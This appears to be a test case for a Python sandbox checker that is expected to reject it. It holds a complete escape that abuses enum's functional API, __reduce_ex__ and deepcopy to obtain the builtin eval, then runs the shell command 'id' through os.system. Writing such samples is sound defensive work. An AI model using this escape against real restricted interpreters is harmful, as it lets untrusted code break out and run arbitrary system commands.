# expect: reject class
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: a program decorator on a member-less enum class statement receives the
#   class and calls it with (name, mapping): enum's functional API puts
#   __reduce_ex__ into the new class; deepcopy of a member forges a typing alias
#   whose reduce hands out eval.
# Goal reached: eval obtained as a value; ran a process (id).
import copy
import enum
import typing

made = []


def red(self, proto):
    return (typing.List.copy_with, (("eval",),), {"_name": "__builtins__"})


def register(c):
    made.append(c("E", {"X": 1, "__deepcopy__": None, "__reduce_ex__": red}))
    return c


@register
class Base(enum.Enum):
    pass


ev = copy.deepcopy(copy.deepcopy(made[0].X))
ev("__import__('os').system('id')")
